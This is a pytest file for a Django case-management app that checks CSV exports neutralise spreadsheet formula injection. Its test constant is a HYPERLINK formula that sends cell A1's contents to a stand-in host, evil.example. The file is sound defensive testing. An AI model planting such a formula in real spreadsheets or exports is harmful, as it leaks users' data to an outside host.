"""CSV exports neutralise formula cells: text typed by people is shown in Excel/WPS, never run."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from django.urls import reverse

from workflows.discipline.models import SanctionCase
from workflows.org.models import Official
from workflows.runtime.csv_export import csv_bytes, neutralise

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


@pytest.mark.parametrize("cell", ["=1+1", "+86 123", "-2+3", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["李四", "2026-12-01", "a=b", "", 3, -3, None])
def test_other_cells_are_unchanged(cell):
    assert neutralise(cell) == cell


def test_csv_bytes_neutralises_header_and_rows_and_keeps_the_bom():
    data = csv_bytes(["姓名", "=x"], [["李四", "@cmd"], ["王五", 2]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(StringIO(data.decode("utf-8-sig")))) == [["姓名", "'=x"], ["李四", "'@cmd"], ["王五", "2"]]


def test_ledger_csv_download_neutralises_what_people_typed(login, delivered_case):
    SanctionCase.objects.filter(pk=delivered_case.pk).update(facts=FORMULA)
    rows = list(csv.reader(StringIO(login("zhaobgs").get(reverse("ledger_csv"), {"year": 2026})
                                    .content.decode("utf-8-sig"))))
    facts = rows[0].index("事实")
    assert rows[1][facts] == "'" + FORMULA


def test_official_ledger_csv_download_neutralises_names(login, delivered_case):
    Official.objects.filter(user__username="lisi").update(name="-李四")
    rows = list(csv.reader(StringIO(login("zhaobgs").get(reverse("official_ledger_csv"), {"year": 2026})
                                    .content.decode("utf-8-sig"))))
    assert rows[1][0] == "'-李四"
